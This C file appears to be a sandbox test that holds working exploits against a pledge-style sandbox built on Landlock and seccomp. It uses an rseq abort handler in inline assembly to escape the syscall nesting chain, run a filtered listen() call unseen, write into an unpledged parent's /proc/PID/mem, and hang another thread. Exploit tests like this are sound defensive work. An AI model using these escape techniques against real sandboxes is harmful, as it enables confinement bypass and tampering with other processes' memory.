// nest_rseq STAGE2 [VARIANT...]: rseq moves a thread out of the Landlock nesting chain.
// The chain (rt_sigprocmask, landlock_create_ruleset, landlock_restrict_self, close, the old
// mask) rewinds the thread to its `syscall` instruction and resumes it for each step after the
// first. If that instruction lies in an rseq critical section, the kernel (the thread was
// scheduled out at the ptrace stop) moves it to the section's abort handler on the way back to
// user mode: the program's own code runs in the middle of the chain, signals blocked or not.
// That code's calls are "foreign" and judged, but the chain's state is never ended:
//   exec: the abort handler calls execve (allowed by the current promises "stdio rpath inet
//     exec", execpromises "stdio"). The thread keeps its NestChain in the new image
//     (Tracer::on_exec resets proc->nest_chains but not ThreadState::nest), so in seccomp mode
//     the new image's first call is taken for a "foreign" call at its entry stop and resumed:
//     the exec_filter (the execpromises filter to be stacked before the first call runs) is
//     skipped, and a call the old filter allows without stopping (listen, promise inet) runs
//     unseen. STAGE2 (nest_rseq_stage2, static, no libc start-up calls) makes that call first,
//     on a TCP socket made before the pledge (fd 100), and exits 42 if it succeeded.
//   control: the same exec without the rseq trick (the exec filter is stacked: listen refused).
//   reach: the abort handler of an unpledged process's first xpledge() re-execs this program
//     (allowed: nothing is pledged yet). In the new image its main thread A still has the chain
//     (for_xpledge), so each of its calls is "foreign" and judged by the promises, and the
//     catch-up test (`!t.nest && t.nest_level < proc->nest_level`) never runs for it: a second
//     thread B pledges "stdio rpath wpath" (a narrowing: B nests, and A should nest before its
//     next call), then A opens the unpledged parent's /proc/PPID/mem read-write (the kernel's
//     Landlock ptrace scoping would refuse it from a nested domain) and writes into it.
//   reach-control: the same re-exec without rseq: A catches up and the open is refused.
//   park: the abort handler jumps back (no exec): the thread's chain never ends and its
//     process's chain count stays 1, so in seccomp mode another thread's xpledge() is parked
//     for ever (park_if_filters_busy): the process hangs (a 5 s watchdog in the parent).
#include "attack.h"

#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <sys/socket.h>
#include <netinet/in.h>

#define SYS_xpledge 10000
extern const ptrdiff_t __rseq_offset;
extern const unsigned int __rseq_size;

struct rseq_cs_desc {
  uint32_t version, flags;
  uint64_t start_ip, post_commit_offset, abort_ip;
} __attribute__((aligned(32)));
struct rseq_area {
  uint32_t cpu_id_start, cpu_id;
  uint64_t rseq_cs;
  uint32_t flags;
} __attribute__((aligned(32)));

struct rseq_cs_desc g_cs;
uint64_t *g_cs_slot;
static const char *g_stage2;
static const char *g_self;
static int g_reach;
static int g_park;
static jmp_buf g_back;  // the abort handler re-execs this program (reach) instead of STAGE2
static char g_parent_arg[64], g_addr_arg[64];
static volatile char g_secret[16] = "unpledged-0";
void rseq_abort_c(void);

// long rseq_syscall2(long nr, long a0, long a1): the syscall instruction is the critical section.
__asm__(
    ".text\n"
    ".globl rseq_syscall2\n"
    "rseq_syscall2:\n"
    "  mov %rdi, %rax\n"
    "  mov %rsi, %rdi\n"
    "  mov %rdx, %rsi\n"
    "  xor %edx, %edx\n"
    "  xor %r10d, %r10d\n"
    "  mov g_cs_slot(%rip), %r9\n"
    "  lea g_cs(%rip), %r8\n"
    "  mov %r8, (%r9)\n"
    ".globl rseq_crit_start\n"
    "rseq_crit_start:\n"
    "  syscall\n"
    ".globl rseq_crit_end\n"
    "rseq_crit_end:\n"
    "  mov g_cs_slot(%rip), %r9\n"
    "  movq $0, (%r9)\n"
    "  ret\n"
    "  .long 0x53053053\n"
    ".globl rseq_abort_ip\n"
    "rseq_abort_ip:\n"
    "  jmp rseq_abort_c\n");
long rseq_syscall2(long nr, long a0, long a1);
extern char rseq_crit_start[], rseq_crit_end[], rseq_abort_ip[];

// The abort handler: the thread is in the middle of the nesting chain (tail-called from the asm,
// on the stack of rseq_syscall2's caller frame).
void rseq_abort_c(void) {
  *g_cs_slot = 0;
  if (g_park) _longjmp(g_back, 1);
  if (g_reach) {
    char *av[] = {(char *)g_self, "--reach-stage2", g_parent_arg, g_addr_arg, NULL};
    char *ev[] = {NULL};
    say(1, "# abort handler runs inside the chain: re-exec %s\n", g_self);
    syscall(SYS_execve, g_self, av, ev);
    syscall(SYS_exit_group, 3);
  }
  say(1, "# abort handler runs inside the chain: exec %s\n", g_stage2);
  char *argv[] = {(char *)g_stage2, NULL};
  char *envp[] = {NULL};
  long r = syscall(SYS_execve, g_stage2, argv, envp);
  say(1, "# execve returned %ld errno %d\n", r, errno);
  syscall(SYS_exit_group, 3);
}


// --reach-stage2 PPID ADDR: the re-exec'd image. Thread B narrows; then this thread (A) opens
// the unpledged PPID's memory read-write and overwrites g_secret there (at ADDR).
static long g_pledge_rc = -1, g_pledge_errno;
static void *pledger(void *arg) {
  (void)arg;
  g_pledge_rc = syscall(SYS_xpledge, "stdio rpath wpath", 0);
  g_pledge_errno = errno;
  return NULL;
}
static void *attacher(void *arg) {
  (void)arg;
  long fd = syscall(SYS_openat, AT_FDCWD, "/dev/null", O_RDONLY | O_CLOEXEC);
  if (fd >= 0) close((int)fd);
  return NULL;
}
static int reach_stage2(const char *ppid, const char *addr) {
  // A is still "inside" the chain: a path call of its own would need the path scratch area
  // attached by an injection, which is refused there. B's first path call attaches it for the
  // address space. (This program is linked statically: no loader's path calls before main.)
  pthread_t b;
  if (pthread_create(&b, NULL, attacher, NULL) != 0) return 2;
  pthread_join(b, NULL);
  if (pthread_create(&b, NULL, pledger, NULL) != 0) return 2;
  pthread_join(b, NULL);
  if (g_pledge_rc != 0) {
    say(1, "# stage2: xpledge(stdio rpath wpath) in thread B: %ld errno %ld\n", g_pledge_rc,
        g_pledge_errno);
    return 2;
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/mem", ppid);
  long fd = syscall(SYS_openat, AT_FDCWD, path, O_RDWR | O_CLOEXEC);
  if (fd < 0) {
    say(1, "# stage2: pledged; open(%s, O_RDWR) from thread A: errno %d\n", path, errno);
    return 43;
  }
  static const char msg[] = "PWNED-by-kid";
  long w = pwrite((int)fd, msg, sizeof msg, (off_t)strtoull(addr, NULL, 0));
  say(1, "# stage2: pledged \"stdio rpath wpath\"; opened %s O_RDWR, pwrite %ld\n", path, w);
  return 42;
}

static int child_status(pid_t pid) {
  int st;
  if (waitpid(pid, &st, 0) < 0) return -1;
  return st;
}

static void variant(const char *name, int use_rseq) {
  pid_t pid = fork();
  if (pid < 0) return setup_error(name, "fork: %s", strerror(errno));
  if (pid == 0) {
    int s = (int)syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
    if (s < 0 || dup2(s, 100) != 100) {
      say(1, "ERROR %s: socket: %s\n", name, strerror(errno));
      _exit(2);
    }
    if (syscall(SYS_xpledge, "stdio rpath inet exec", "stdio") != 0) {
      say(1, "ERROR %s: xpledge(stdio rpath inet exec, stdio): %s\n", name, strerror(errno));
      _exit(2);
    }
    if (!use_rseq) {
      char *argv[] = {(char *)g_stage2, NULL};
      char *envp[] = {NULL};
      syscall(SYS_execve, g_stage2, argv, envp);
      _exit(3);
    }
    // A narrowing: the chain starts; its second step resumes at rseq_crit_start -> abort.
    long r = rseq_syscall2(SYS_xpledge, (long)"stdio rpath exec", 0);
    say(1, "# %s: xpledge returned %ld without the abort handler running\n", name, r);
    _exit(4);
  }
  int st = child_status(pid);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 42)
    bypass(name, "the exec'd image (execpromises \"stdio\") ran listen() on a TCP socket unseen");
  else if (WIFEXITED(st) && WEXITSTATUS(st) == 4)
    skipped(name, "the rseq abort did not happen (kernel did not move the thread)");
  else if (WIFEXITED(st) && WEXITSTATUS(st) == 2)
    setup_error(name, "set-up failed");
  else
    ok(name, "the exec'd image could not listen (status %#x)", st);
}


static void reach_variant(const char *name, int use_rseq) {
  memcpy((char *)g_secret, "unpledged-0", 12);
  snprintf(g_parent_arg, sizeof g_parent_arg, "%d", (int)getpid());
  snprintf(g_addr_arg, sizeof g_addr_arg, "%p", (void *)g_secret);
  pid_t pid = fork();
  if (pid < 0) return setup_error(name, "fork: %s", strerror(errno));
  if (pid == 0) {
    g_reach = 1;
    if (!use_rseq) {
      char *av[] = {(char *)g_self, "--reach-stage2", g_parent_arg, g_addr_arg, NULL};
      char *ev[] = {NULL};
      syscall(SYS_execve, g_self, av, ev);
      _exit(3);
    }
    long r = rseq_syscall2(SYS_xpledge, (long)"stdio rpath wpath proc exec", 0);
    say(1, "# %s: xpledge returned %ld without the abort handler running\n", name, r);
    _exit(4);
  }
  int st = child_status(pid);
  char now[16];
  memcpy(now, (const char *)g_secret, sizeof now);
  now[15] = 0;
  if (WIFEXITED(st) && WEXITSTATUS(st) == 42)
    bypass(name, "a thread of a process pledged \"stdio rpath wpath\" opened the unpledged "
                 "parent's /proc/PID/mem read-write; the parent's g_secret now reads '%s'", now);
  else if (WIFEXITED(st) && WEXITSTATUS(st) == 4)
    skipped(name, "the rseq abort did not happen (kernel did not move the thread)");
  else if (WIFEXITED(st) && WEXITSTATUS(st) == 2)
    setup_error(name, "set-up failed in the child");
  else
    ok(name, "the pledged child could not open the parent's memory (status %#x, g_secret '%s')",
       st, now);
}

static long g_b_rc = -9;
static void *narrower(void *arg) {
  (void)arg;
  g_b_rc = syscall(SYS_xpledge, "stdio", 0);
  return NULL;
}
static void park_variant(const char *name) {
  pid_t pid = fork();
  if (pid < 0) return setup_error(name, "fork: %s", strerror(errno));
  if (pid == 0) {
    g_park = 1;
    if (_setjmp(g_back) == 0) {
      long r = rseq_syscall2(SYS_xpledge, (long)"stdio rpath proc", 0);
      say(1, "# %s: xpledge returned %ld without the abort handler running\n", name, r);
      _exit(4);
    }
    pthread_t b;
    if (pthread_create(&b, NULL, narrower, NULL) != 0) _exit(2);
    pthread_join(b, NULL);
    say(1, "# %s: thread B's xpledge(stdio) returned %ld\n", name, g_b_rc);
    _exit(0);
  }
  int st = 0;
  for (int i = 0; i < 500; ++i) {
    if (waitpid(pid, &st, WNOHANG) == pid) break;
    struct timespec ts = {0, 10 * 1000 * 1000};
    nanosleep(&ts, NULL);
    if (i == 499) {
      kill(pid, SIGKILL);
      waitpid(pid, &st, 0);
      bypass(name, "hang: thread B's xpledge() did not return in 5 s (parked behind a chain "
                   "that never ends)");
      return;
    }
  }
  if (WIFEXITED(st) && WEXITSTATUS(st) == 4) skipped(name, "the rseq abort did not happen");
  else ok(name, "thread B's xpledge returned (status %#x)", st);
}

int main(int argc, char **argv) {
  if (argc == 4 && !strcmp(argv[1], "--reach-stage2")) return reach_stage2(argv[2], argv[3]);
  if (argc < 2) return 2;
  g_stage2 = argv[1];
  g_self = realpath("/proc/self/exe", NULL);
  if (__rseq_size == 0) {
    skipped("exec", "glibc did not register rseq");
    return finish();
  }
  g_cs_slot = (uint64_t *)((char *)__builtin_thread_pointer() + __rseq_offset + 8);
  g_cs.version = 0;
  g_cs.flags = 0;
  g_cs.start_ip = (uint64_t)rseq_crit_start;
  g_cs.post_commit_offset = (uint64_t)(rseq_crit_end - rseq_crit_start);
  g_cs.abort_ip = (uint64_t)rseq_abort_ip;
  int all = argc < 3;
  for (int i = 2; i < argc || all; ++i) {
    const char *v = all ? NULL : argv[i];
    if (all || !strcmp(v, "control")) variant("control", 0);
    if (all || !strcmp(v, "exec")) variant("exec", 1);
    if (all || !strcmp(v, "reach-control")) reach_variant("reach-control", 0);
    if (all || !strcmp(v, "reach")) reach_variant("reach", 1);
    if (all || !strcmp(v, "park")) park_variant("park");
    if (all) break;
  }
  return finish();
}
